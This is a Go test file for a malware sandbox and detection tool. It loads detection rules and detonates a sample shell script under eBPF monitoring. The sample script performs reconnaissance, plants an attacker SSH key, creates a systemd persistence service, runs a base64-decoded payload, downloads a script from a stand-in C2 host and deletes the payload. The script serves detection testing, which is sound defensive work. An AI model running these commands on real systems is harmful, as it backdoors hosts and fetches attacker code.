package sandbox

import (
	"context"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/attack"
	"github.com/quarry-sec/quarry/detections"
	"github.com/quarry-sec/quarry/detections/ruleset"
	"github.com/quarry-sec/quarry/telemetry/eventstore"
	"github.com/quarry-sec/quarry/telemetry/host"
)

var (
	rulesOnce sync.Once
	testRules []*detections.Rule
	testKB    *attack.KB
	rulesErr  error
)

// loadTestRules loads the builtin rules, and SigmaHQ's Linux rules when
// ../shared is there.
func loadTestRules(t *testing.T) ([]*detections.Rule, *attack.KB) {
	t.Helper()
	rulesOnce.Do(func() {
		if testKB, rulesErr = attack.Embedded(); rulesErr != nil {
			return
		}
		cfg := ruleset.Config{Builtin: true, KB: testKB}
		sigma := filepath.Join("..", "..", "shared", "sigma", "rules", "linux")
		if _, err := os.Stat(sigma); err == nil {
			cfg.Sigma = []string{sigma}
		}
		res, err := ruleset.Load(cfg)
		if err != nil {
			rulesErr = err
			return
		}
		testRules = res.Rules
	})
	if rulesErr != nil {
		t.Fatal(rulesErr)
	}
	return testRules, testKB
}

// needDetonate skips a test when the sandbox or the eBPF collectors cannot
// run here.
func needDetonate(t *testing.T) {
	t.Helper()
	needSandbox(t)
	if _, err := os.Stat("/sys/kernel/btf/vmlinux"); err != nil {
		t.Skip("no kernel BTF (/sys/kernel/btf/vmlinux): the eBPF collectors cannot load: skipped")
	}
}

func detonate(t *testing.T, sample string, opts Options) (*Report, *eventstore.Store) {
	t.Helper()
	rules, kb := loadTestRules(t)
	st, err := eventstore.Open(filepath.Join(t.TempDir(), eventstore.FileName))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	if opts.Timeout == 0 {
		opts.Timeout = 30 * time.Second
	}
	run, rep, err := Detonate(context.Background(), sample, DetonateOptions{Options: opts, Store: st, Rules: rules, KB: kb, Host: host.Identifier()})
	if err != nil {
		t.Fatal(err)
	}
	stored, ok, err := st.SandboxRun(context.Background(), run.ID)
	if err != nil || !ok || stored.Verdict != rep.Verdict || len(stored.Report) == 0 {
		t.Fatalf("run not stored: %v %v %+v", ok, err, stored)
	}
	return rep, st
}

func TestDetonateExplore(t *testing.T) {
	needDetonate(t)
	rep, _ := detonate(t, script(t, `
id; uname -a; cat /etc/passwd > /dev/null; whoami; hostname
mkdir -p $HOME/.ssh; echo "ssh-ed25519 AAAA attacker" >> $HOME/.ssh/authorized_keys
mkdir -p $HOME/.config/systemd/user; printf '[Service]\nExecStart=/tmp/x\n' > $HOME/.config/systemd/user/evil.service
echo 'IyEvYmluL3NoCmVjaG8gcHduZWQK' | base64 -d > /tmp/payload; chmod +x /tmp/payload; /tmp/payload
curl -s -m 3 http://update.evil-c2.example/payload.sh -o /tmp/p.sh
sh -c 'rm -- "$0"; sleep 0.1' /tmp/payload
`), Options{Network: NetworkSink})
	b, _ := jsonIndent(rep)
	t.Logf("%s", b)
}
